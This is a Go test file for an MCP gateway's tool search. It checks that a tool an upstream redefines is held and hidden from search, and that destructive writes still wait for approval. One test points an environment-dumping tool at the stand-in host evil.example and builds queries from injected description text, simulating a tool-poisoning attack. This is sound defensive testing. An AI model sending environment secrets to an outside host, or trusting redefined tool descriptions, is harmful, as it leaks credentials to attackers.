package gateway_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/agnara-go/agnara/approval"
	"github.com/agnara-go/agnara/gateway"
	"github.com/modelcontextprotocol/go-sdk/mcp"
)

// search calls search_tools and returns the names found.
func search(t *testing.T, cs *mcp.ClientSession, query string) []string {
	t.Helper()
	text, isErr := call(t, cs, "search_tools", map[string]any{"query": query})
	if isErr {
		t.Fatalf("search %q: %s", query, text)
	}
	var found struct {
		Tools []*mcp.Tool `json:"tools"`
	}
	if err := json.Unmarshal([]byte(text), &found); err != nil {
		t.Fatalf("search %q answered %s: %v", query, text, err)
	}
	var names []string
	for _, tl := range found.Tools {
		names = append(names, tl.Name)
	}
	return names
}

// A held definition is never found: once the upstream redefines a bound
// tool (issue 30's attack), no query, not even the held definition's own
// words, finds it, while it was found before; a tool whose scope the caller
// lacks is never found; a listed tool that is held drops from the list and
// the gateway goes on serving; call_tool of the held tool answers what a
// direct call answers.
func TestGatewaySearchNeverFindsAHeldDefinition(t *testing.T) {
	s := mcp.NewServer(&mcp.Implementation{Name: "hostile", Version: "1"}, nil)
	addEnvdump(s, false)
	mcp.AddTool(s, &mcp.Tool{Name: "pid", Description: "The process id of the server."}, func(context.Context, *mcp.CallToolRequest, empty) (*mcp.CallToolResult, textOut, error) {
		return nil, textOut{"1"}, nil
	})
	mcp.AddTool(s, &mcp.Tool{Name: "secrets", Description: "List the server's environment secrets."}, func(context.Context, *mcp.CallToolRequest, empty) (*mcp.CallToolResult, textOut, error) {
		return nil, textOut{"s3cr3t"}, nil
	})
	admin := gateway.Tool{Remote: "secrets", Title: "Environment secrets", Scopes: []string{"admin:all"}, ConcurrencySafe: true}
	up := gateway.Upstream{Name: "self", Prefix: "self_", HTTP: &gateway.HTTPUpstream{URL: sdkUpstream(t, s)},
		Tools: []gateway.Tool{readTool("envdump"), readTool("pid"), admin}}
	g, url, log := started(t, gateway.Config{Upstreams: []gateway.Upstream{up},
		Search: &gateway.Search{Listed: []string{"self_pid", "self_envdump"}, Results: 5}}, nil)
	cs := connect(t, url, "")
	if got := listed(t, cs); !slices.Equal(got, []string{"call_tool", "gateway.self_envdump", "gateway.self_pid", "search_tools"}) {
		t.Fatalf("listed %v\n%s", got, log)
	}
	if got := search(t, cs, "environment variables"); len(got) == 0 || got[0] != "gateway.self_envdump" {
		t.Fatalf("before the hold, envdump is not found first: %v", got)
	}
	queries := append(strings.Fields(envdumpDescription+" "+injected+" "+"secrets Environment admin"), "envdump", "self_envdump", "gateway.self_envdump", "target", "", "*")
	check := func(what string) {
		t.Helper()
		for _, q := range queries {
			for _, name := range search(t, cs, q) {
				if name == "gateway.self_secrets" || what == "held" && name == "gateway.self_envdump" {
					t.Errorf("%s: query %q found %s", what, q, name)
				}
			}
		}
	}
	check("before")

	addEnvdump(s, true)
	eventually(t, "envdump held", func() bool { return len(state(g, "self").Held) == 1 })
	check("held")
	if got := listed(t, cs); !slices.Equal(got, []string{"call_tool", "gateway.self_pid", "search_tools"}) {
		t.Errorf("listed while held %v", got)
	}
	via, viaErr := call(t, cs, "call_tool", map[string]any{"name": "gateway.self_envdump", "arguments": map[string]any{"target": "https://evil.example/"}})
	direct, directErr := call(t, cs, "gateway.self_envdump", map[string]any{"target": "https://evil.example/"})
	if via != direct || viaErr != directErr || !strings.Contains(via, string(gateway.ReasonDefinitionChanged)) || strings.Contains(via, renamedAnswer) {
		t.Errorf("call_tool of the held tool answered %s; the direct call %s", via, direct)
	}
	if text, isErr := call(t, cs, "call_tool", map[string]any{"name": "gateway.self_pid"}); isErr || !strings.Contains(text, `"1"`) {
		t.Errorf("call_tool of pid while envdump is held: %s", text)
	}
}

// A write reached through call_tool waits for its approval as a direct
// call does: the upstream is not called.
func TestGatewaySearchWriteNeedsApproval(t *testing.T) {
	s := mcp.NewServer(&mcp.Implementation{Name: "scratch", Version: "1"}, nil)
	var calls atomic.Int64
	mcp.AddTool(s, &mcp.Tool{Name: "wipe", Description: "Wipe the scratch space."}, func(context.Context, *mcp.CallToolRequest, empty) (*mcp.CallToolResult, textOut, error) {
		calls.Add(1)
		return nil, textOut{"wiped"}, nil
	})
	store, err := approval.OpenSQLite(filepath.Join(t.TempDir(), "approvals.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { store.Close() })
	up := gateway.Upstream{Name: "scratch", Prefix: "scratch_", HTTP: &gateway.HTTPUpstream{URL: sdkUpstream(t, s)},
		Tools: []gateway.Tool{{Remote: "wipe", Title: "Wipe the scratch space", Write: "destructive"}}}
	_, url, _ := started(t, gateway.Config{Upstreams: []gateway.Upstream{up}, Search: &gateway.Search{}}, &gateway.Options{Approvals: store})
	cs := connect(t, url, "")
	if got := search(t, cs, "wipe scratch"); !slices.Equal(got, []string{"gateway.scratch_wipe"}) {
		t.Fatalf("found %v", got)
	}
	text, isErr := call(t, cs, "call_tool", map[string]any{"name": "gateway.scratch_wipe", "arguments": map[string]any{}})
	if f := parseFailure(t, text); !isErr || f.Reason != string(approval.ReasonPending) || calls.Load() != 0 {
		t.Errorf("call_tool of a write answers %s (upstream called %d times), want approval_pending and no call", text, calls.Load())
	}
}

// The search key is checked with the rest of the config.
func TestGatewaySearchConfig(t *testing.T) {
	base := "name: gw\nauth: {development: {}}\nupstreams:\n  - name: a\n    prefix: a_\n    http: {url: \"http://127.0.0.1:1/mcp\"}\n    tools:\n      - {remote: x, title: X}\n"
	for _, c := range []struct{ yaml, want string }{
		{"search: {listed: [a_y]}\n", `search.listed[0]: "a_y" is the local name of no bound tool`},
		{"search: {results: 51}\n", "search.results: 51: want 1 to 50"},
		{"search: {results: -1}\n", "search.results: -1: want 1 to 50"},
	} {
		_, err := gateway.Parse("gateway.yaml", []byte(base+c.yaml))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want %q", c.yaml, err, c.want)
		}
	}
	cfg, err := gateway.Parse("gateway.yaml", []byte(base+"search: {listed: [a_x], results: 12}\n"))
	if err != nil || cfg.Search == nil || cfg.Search.Results != 12 || !slices.Equal(cfg.Search.Listed, []string{"a_x"}) {
		t.Errorf("parsed %+v, %v", cfg.Search, err)
	}
}

// The config docs/gateway.md shows under "Search" is one the gateway
// accepts as written, with its search key.
func TestSearchDocsConfigParses(t *testing.T) {
	doc, err := os.ReadFile("../docs/gateway.md")
	if err != nil {
		t.Fatal(err)
	}
	_, section, ok := strings.Cut(string(doc), "\n## Search\n")
	if !ok {
		t.Fatal(`docs/gateway.md has no "## Search" section`)
	}
	section, _, _ = strings.Cut(section, "\n## ")
	blocks := regexp.MustCompile("(?s)```yaml\n(.*?)```").FindAllStringSubmatch(section, -1)
	if len(blocks) == 0 {
		t.Fatal("the Search section shows no config")
	}
	for _, b := range blocks {
		cfg, err := gateway.Parse("gateway.yaml", []byte(b[1]))
		if err != nil || cfg.Search == nil || len(cfg.Search.Listed) == 0 || cfg.Search.Results == 0 {
			t.Errorf("a config in the Search section:\n%s\nparsed %+v, %v", b[1], cfg, err)
		}
	}
}
